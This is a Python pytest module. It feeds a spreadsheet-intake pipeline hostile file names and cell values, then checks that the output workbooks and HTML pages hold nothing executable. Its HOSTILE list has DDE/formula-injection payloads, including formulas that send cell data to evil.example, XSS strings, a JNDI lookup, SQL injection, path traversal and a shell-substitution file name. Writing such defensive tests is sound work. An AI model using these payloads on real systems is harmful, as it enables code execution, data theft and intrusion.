"""Nothing that comes out can run: a night made of hostile files, names and cells, looked at as raw bytes."""

import json
import re
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from xml.etree.ElementTree import Element, fromstring

import openpyxl
import pytest

from tests.intake.files import workbook
from tests.nights.office import CALLS, LEADS, Office

HOSTILE = (
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=DDE(\"cmd\";\"/C calc\";\"x\")", "\t=1+1", " =1+1", "＝1+1",
    "=WEBSERVICE(\"http://evil.example\")", "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "%0A=1+1",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</style><script>alert(1)</script>",
    "javascript:alert(1)", "http://evil.example/a", "mailto:a@evil.example", "file:///etc/passwd",
    "\\\\evil.example\\share", "{{ 7*7 }}", "{% raw %}", "{name}", "%s%n", "${jndi:ldap://evil.example}",
    "&lt;b&gt;&amp;#x3c;", "]]>", "<!--", "'; DROP TABLE leads; --", "../../../etc/x", "..\\..\\x", "/etc/passwd",
    "CON", "nul.xlsx", "a/b", ".hidden", "-rf", "名" * 300, "\u202egnp.exe", "\u200b\ufeff王", "a\x0bb\x0cc",
    "_x000D_x", "_x0041_b", "\U0001f600" * 40,
)  # fmt: skip
RUNS = {"script", "iframe", "object", "embed", "base", "form", "img", "frame", "applet", "audio", "video"}
LEAST_BOOKS = 2


def hostile_night(office: Office) -> None:
    """Each text once as name, consultant, note and header of people who can be reached, and of rejected rows."""
    people = [
        [text, f"1990000{place:04d}", text, "2026-11-18 10:15", text, text, 300, text, text, text]
        for place, text in enumerate(HOSTILE)
    ]
    rejected = [
        [text, text, text, "2026-11-18 10:15", text, text, text, text, text, text] for text in HOSTILE
    ]
    header = [*LEADS, "备注", '=HYPERLINK("http://evil.example")', "<script>alert(2)</script>"]
    workbook(office.inbox / "=cmd|' 台账.xlsx", {"<b>&'=1+1": [header, *people, *rejected]})
    calls = [
        [text, f"1990000{place:04d}", "2026-11-19 15:00", "去电", "已接通", text, text]
        for place, text in enumerate(HOSTILE)
    ]
    workbook(office.inbox / "CON.xlsx", {"CON": [CALLS, *calls]})
    (office.inbox / "=1+1 <b>").mkdir()
    few = [*calls[:3], [*calls[0][:1], "x", *calls[0][2:]]]
    workbook(office.inbox / "=1+1 <b>" / "-rf $(touch x).xlsx", {"=1+1": [CALLS, *few]})
    (office.inbox / "<script>.xlsx").write_bytes(b"\xd0\xcf\x11\xe0 <script>alert(1)</script>")
    (office.inbox / "=cmd.csv").write_text(
        "姓名,电话,登记时间\n=cmd|' /C calc'!A0,19900009999,2026-11-18\n", encoding="utf-8"
    )


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Office]:
    root = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("XDG_CONFIG_HOME", str(root / "keys"))
        patch.delenv("CALLSHEET_KEY", raising=False)
        office = Office(root / "office")
        hostile_night(office)
        office.night()
        yield office


def books(office: Office) -> list[Path]:
    found = sorted(office.data.joinpath("outbox").rglob("*.xlsx"))
    assert len(found) > LEAST_BOOKS
    return found


def parts(path: Path) -> dict[str, Element]:
    with zipfile.ZipFile(path) as book:
        assert all(name.startswith(("xl/", "docProps/", "_rels/", "[Content")) for name in book.namelist())
        return {
            name: fromstring(book.read(name)) for name in book.namelist() if name.endswith((".xml", ".rels"))
        }


def elements(root: Element, name: str) -> list[Element]:
    return [element for element in root.iter() if element.tag.rpartition("}")[2] == name]


def test_the_night_told_of_every_row(published: Office) -> None:
    told = json.loads((published.latest / "run.json").read_text(encoding="utf-8"))
    totals = told["totals"]
    assert totals["rows"] == sum(totals[name] for name in totals if name != "rows")
    assert totals["accepted"] > 2 * len(HOSTILE) - 10
    assert totals["rejected"] >= 1
    assert list((published.latest / "main" / "rejected").iterdir())
    assert len(list((published.latest / "main" / "tasks").iterdir())) > 10


def test_no_workbook_holds_anything_that_runs_or_leads_out(published: Office) -> None:
    for path in books(published):
        for name, root in parts(path).items():
            assert not re.search(
                r"externalLink|vbaProject|oleObject|activeX|customXml|connections|query", name
            )
            assert elements(root, "f") == []
            assert elements(root, "hyperlink") == []
            assert elements(root, "ddeLink") == elements(root, "oleLink") == []
            for relation in elements(root, "Relationship"):
                assert relation.get("TargetMode") != "External"
                assert ":" not in relation.get("Target", "")
            for told in ("formula", "formula1", "formula2", "definedName"):
                for element in elements(root, told):
                    assert "evil" not in (element.text or "") and "cmd|" not in (element.text or "")
                    assert "[" not in (element.text or "")


def test_every_cell_that_begins_like_a_formula_is_text(published: Office) -> None:
    for path in books(published):
        for sheet in openpyxl.load_workbook(path):
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type in ("s", "n", "d", "b")
                    assert cell.hyperlink is None


class Tags(HTMLParser):
    """The tags and attributes of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def test_no_page_holds_markup_of_theirs(published: Office) -> None:
    pages = sorted(published.data.joinpath("outbox").rglob("*.html"))
    assert len(pages) == 3
    for path in pages:
        tags = Tags()
        tags.feed(path.read_text(encoding="utf-8"))
        assert RUNS & {tag for tag, _ in tags.found} == set()
        for _, attributes in tags.found:
            assert [name for name in attributes if name.startswith("on")] == []
            for name in ("href", "src", "xlink:href", "action", "srcset", "data"):
                assert attributes.get(name, "#").startswith("#") or attributes[name] == "data:,"
            assert "url(" not in attributes.get("style", "")
        assert not re.search(r"@import|url\(|evil\.example[^<]*<script", path.read_text(encoding="utf-8"))


def test_every_name_is_harmless_and_lies_in_the_data_directory(published: Office) -> None:
    assert {path.name for path in published.root.iterdir()} == {"config.toml", "data"}
    assert {path.name for path in published.root.parent.iterdir()} == {"office", "keys"}
    outbox = published.data / "outbox"
    for path in outbox.rglob("*"):
        if path.name != "latest":
            assert not path.is_symlink()
            assert path.resolve().is_relative_to(outbox.resolve())
        assert path.name.split(".")[0].strip().upper() not in ("CON", "NUL")
        assert not re.search(r'[<>:"|?*\\\x00-\x1f\u202e\u200b]', path.name)
        assert not path.name.startswith(("-", ".", " ", "=", "~"))
        assert len(path.name.encode()) < 256


def test_exported_workbooks_hold_text_only(published: Office, tmp_path: Path) -> None:
    from pipeline.exporting import export_table, write_table

    session = published.session()
    store = session.existing_store()
    assert store is not None
    for name in ("customers", "leads", "activities", "issues", "tasks"):
        write_table(export_table(name, store, session.settings), tmp_path / f"{name}.xlsx")
        for root in parts(tmp_path / f"{name}.xlsx").values():
            assert elements(root, "f") == elements(root, "hyperlink") == []
